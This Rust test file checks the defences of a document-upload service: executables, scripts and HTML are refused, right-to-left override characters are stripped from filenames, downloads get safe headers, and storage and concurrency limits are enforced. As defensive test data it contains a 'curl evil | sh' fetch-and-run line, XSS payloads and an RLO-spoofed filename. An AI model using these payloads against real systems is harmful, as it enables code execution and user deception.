//! Documents: an executable, a script or HTML is refused whatever it is declared as and called;
//! office files must hold their parts; a right-to-left override in a name is removed and the
//! name ends in its content's extension; downloads are attachments that are never sniffed; a
//! case holds a bounded amount.

use reqwest::StatusCode;

use crate::both_backends;
use crate::documents::{Part, documents_path, pdf_bytes, setting, upload};
use crate::helpers::{Backend, TestApp, assert_problem, body};

both_backends!(
    executables_scripts_and_html_are_refused_whatever_they_are_called,
    a_bidi_override_in_a_name_is_removed_and_the_download_is_an_attachment,
    a_case_holds_a_bounded_amount_of_documents,
);

async fn upload_one(
    app: &TestApp,
    token: &str,
    case_id: &str,
    name: &str,
    content_type: &str,
    data: Vec<u8>,
) -> reqwest::Response {
    upload(
        app,
        token,
        case_id,
        &[
            Part::text("kind", "invoice"),
            Part::file(name, content_type, data),
        ],
    )
    .await
}

async fn executables_scripts_and_html_are_refused_whatever_they_are_called(backend: Backend) {
    let (app, _, member, _, case_id) = setting(backend).await;
    // A Windows executable as text/plain was accepted and served back byte for byte.
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
    exe.extend_from_slice(b"This program cannot be run in DOS mode.");
    let attacks: [(&str, &str, Vec<u8>); 6] = [
        ("notes.txt", "text/plain", exe.clone()),
        (
            "invoice.pdf",
            "application/pdf",
            [exe.as_slice(), b"%PDF-1.7"].concat(),
        ),
        ("data.csv", "text/csv", b"\x7fELF\x02\x01\x01\0".to_vec()),
        (
            "run.txt",
            "text/plain",
            b"#!/bin/sh\ncurl evil | sh\n".to_vec(),
        ),
        (
            "page.txt",
            "text/plain",
            b"  <!DOCTYPE html><script>alert(1)</script>".to_vec(),
        ),
        ("image.csv", "text/csv", b"<svg onload=alert(1)>".to_vec()),
    ];
    for (name, content_type, data) in attacks {
        let response = upload_one(&app, &member.token, &case_id, name, content_type, data).await;
        let problem = assert_problem(response, 422).await;
        assert_eq!(problem["errors"][0]["field"], "file", "{name}");
        assert_eq!(problem["errors"][0]["code"], "content_refused", "{name}");
    }
    let untyped = upload_one(
        &app,
        &member.token,
        &case_id,
        "x.pdf",
        "application/octet-stream",
        exe,
    )
    .await;
    assert_eq!(
        untyped.status(),
        StatusCode::UNSUPPORTED_MEDIA_TYPE,
        "not sniffed as anything"
    );
    let not_docx = upload_one(
        &app,
        &member.token,
        &case_id,
        "contract.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        b"PK\x03\x04 any zip at all".to_vec(),
    )
    .await;
    let problem = assert_problem(not_docx, 422).await;
    assert_eq!(problem["errors"][0]["code"], "content_mismatch");
    let binary_text = upload_one(
        &app,
        &member.token,
        &case_id,
        "a.txt",
        "text/plain",
        b"ok\0\x01\x02".to_vec(),
    )
    .await;
    let problem = assert_problem(binary_text, 422).await;
    assert_eq!(problem["errors"][0]["code"], "content_mismatch");

    let listed = body(app.get(&documents_path(&case_id), &member.token).await).await;
    assert_eq!(
        listed["data"].as_array().unwrap().len(),
        0,
        "nothing was stored"
    );
    let text = upload_one(
        &app,
        &member.token,
        &case_id,
        "notes.txt",
        "text/plain",
        "Grüße, <3\r\n".as_bytes().to_vec(),
    )
    .await;
    assert_eq!(text.status(), 201, "plain text is still welcome");
}

async fn a_bidi_override_in_a_name_is_removed_and_the_download_is_an_attachment(backend: Backend) {
    let (app, _, member, _, case_id) = setting(backend).await;
    // Shown as "invoiceexe.pdf" by a desktop that honours the override.
    let response = upload_one(
        &app,
        &member.token,
        &case_id,
        "invoice\u{202e}fdp.exe",
        "application/pdf",
        pdf_bytes(),
    )
    .await;
    assert_eq!(response.status(), 201);
    let document = body(response).await;
    assert_eq!(document["filename"], "invoicefdp.exe.pdf");

    let path = format!(
        "{}/{}/content",
        documents_path(&case_id),
        document["id"].as_str().unwrap()
    );
    let download = app.get(&path, &member.token).await;
    assert_eq!(download.status(), 200);
    let headers = download.headers();
    assert_eq!(
        headers["content-disposition"],
        "attachment; filename=\"invoicefdp.exe.pdf\""
    );
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["cache-control"], "no-store");
    assert_eq!(headers["content-type"], "application/pdf");
}

async fn a_case_holds_a_bounded_amount_of_documents(backend: Backend) {
    let (app, _, member, _, case_id) = setting(backend).await;
    // The default is 100 MiB; a server limited to 1 MiB shows the rule without moving 100 MiB.
    let small =
        crate::helpers::spawn_app_with(backend, |config| config.case_documents_mib = 1).await;
    let creditor = small.create_creditor("Acme").await;
    let member_small = small.create_user(&creditor, "creditor_member").await;
    let case_small = small.place_case(&member_small.token, "REF-1").await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let half = |marker: u8| {
        let mut bytes = b"%PDF-1.4\n".to_vec();
        bytes.resize(600 * 1024, marker);
        bytes
    };
    let first = upload_one(
        &small,
        &member_small.token,
        &case_small,
        "a.pdf",
        "application/pdf",
        half(b'a'),
    )
    .await;
    assert_eq!(first.status(), 201);
    let second = upload_one(
        &small,
        &member_small.token,
        &case_small,
        "b.pdf",
        "application/pdf",
        half(b'b'),
    )
    .await;
    let problem = assert_problem(second, 422).await;
    assert_eq!(problem["errors"][0]["code"], "case_full");
    let elsewhere = upload_one(
        &app,
        &member.token,
        &case_id,
        "b.pdf",
        "application/pdf",
        half(b'b'),
    )
    .await;
    assert_eq!(elsewhere.status(), 201, "the default limit takes both");
}

both_backends!(uploads_beyond_the_concurrency_bound_are_told_to_retry);

async fn uploads_beyond_the_concurrency_bound_are_told_to_retry(backend: Backend) {
    use std::io::Write;

    let app = crate::helpers::spawn_app_with(backend, |config| config.upload_concurrency = 1).await;
    let creditor = app.create_creditor("Acme").await;
    let member = app.create_user(&creditor, "creditor_member").await;
    let case_id = app.place_case(&member.token, "REF-1").await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    // A slow client: the head and the start of a body, then nothing, holding the only turn.
    let address = app.address.trim_start_matches("http://").to_owned();
    let head = format!(
        "POST {} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {}\r\n\
         Content-Type: multipart/form-data; boundary=slow\r\nTransfer-Encoding: chunked\r\n\r\n\
         11\r\n--slow\r\nContent-D\r\n",
        documents_path(&case_id),
        member.token
    );
    let mut slow = std::net::TcpStream::connect(&address).unwrap();
    slow.write_all(head.as_bytes()).unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;

    let refused = upload_one(
        &app,
        &member.token,
        &case_id,
        "a.pdf",
        "application/pdf",
        pdf_bytes(),
    )
    .await;
    assert!(refused.headers().contains_key("retry-after"));
    let problem = assert_problem(refused, 503).await;
    assert_eq!(problem["code"], "unavailable");

    drop(slow);
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let accepted = upload_one(
        &app,
        &member.token,
        &case_id,
        "a.pdf",
        "application/pdf",
        pdf_bytes(),
    )
    .await;
    assert_eq!(
        accepted.status(),
        201,
        "the turn is free once the slow client is gone"
    );
}
